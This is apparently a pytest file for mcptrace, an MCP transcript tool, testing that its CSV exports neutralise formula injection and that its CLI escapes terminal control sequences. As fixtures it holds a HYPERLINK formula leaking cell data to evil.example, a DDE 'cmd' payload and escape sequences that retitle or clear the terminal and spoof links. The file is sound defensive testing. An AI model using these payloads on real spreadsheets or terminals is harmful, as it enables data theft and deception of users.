"""What mcptrace writes for people to open is safe whatever the transcript held: a CSV export opened
in a spreadsheet evaluates nothing (OWASP's CSV injection advice), and nothing the CLI prints can
drive the terminal (ESC/OSC sequences, C1 controls, bidirectional overrides are printed escaped)."""

from __future__ import annotations

import csv
import json

import mcptrace
from mcptrace.cli import main

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\tTAB", "\rCR"]
ESC = "\x1b]0;pwned\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\u202eevil\x9b31m"


def _envelope(i: int, tool: str, direction: str = "client_to_server") -> str:
    msg = ({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": tool}} if direction == "client_to_server"
           else {"jsonrpc": "2.0", "id": i, "result": {"content": []}})
    return json.dumps({"ts": f"2026-03-01T12:00:{i:02d}Z", "direction": direction, "transport": "stdio",
                       "connection_id": "c", "message": msg})


def _capture(tmp_path):
    lines = []
    for i, tool in enumerate(FORMULAS + [ESC, "plain_tool"], 1):
        lines += [_envelope(i, tool), _envelope(i, tool, "server_to_client")]
    lines.append("not json " + ESC)  # a reject whose reason quotes the line
    path = tmp_path / "hostile_names.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_csv_exports_neutralise_formulas_and_keep_the_text(tmp_path, capsys):
    db = str(tmp_path / "h.duckdb")
    mcptrace.load(_capture(tmp_path), db=db).close()
    out = tmp_path / "calls.csv"
    assert main(["export", "--db", db, "--table", f"calls={out}"]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        names = [row["tool_name"] for row in csv.DictReader(f)]
    for formula in FORMULAS:
        assert "'" + formula in names, formula
    assert "plain_tool" in names
    assert not any(n[:1] in ("=", "+", "-", "@", "\t", "\r") for n in names if n)
    # the tree's CSV too, and the opt-out writes cells as stored
    tree_csv = tmp_path / "tree.csv"
    assert main(["tree", "--db", db, "--out", str(tree_csv)]) == 0
    text = tree_csv.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    raw = tmp_path / "raw.csv"
    assert main(["export", "--db", db, "--table", f"calls={raw}", "--csv-formulas"]) == 0
    with open(raw, newline="", encoding="utf-8") as f:
        assert FORMULAS[0] in [row["tool_name"] for row in csv.DictReader(f)]
    capsys.readouterr()


def test_nothing_the_cli_prints_reaches_the_terminal_as_a_control_sequence(tmp_path, capsys):
    db = str(tmp_path / "h.duckdb")
    assert main(["load", str(_capture(tmp_path)), "--db", db]) == 0
    for argv in (["sessions", "--db", db], ["gaps", "--db", db],
                 ["open", db, "--sql", "SELECT tool_name, 'x' || chr(27) || '[31m' AS \"col" + "\x1b" + "\" FROM calls", "--width", "400"],
                 ["open", db, "--sql", "SELECT reason FROM rejects"]):
        assert main(argv) == 0, argv
    out = capsys.readouterr()
    printed = out.out + out.err
    for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\r"):
        assert ch not in printed, repr(ch)
    assert "\\x1b]0;pwned\\x07" in printed  # shown, escaped
    assert "\\u202eevil" in printed
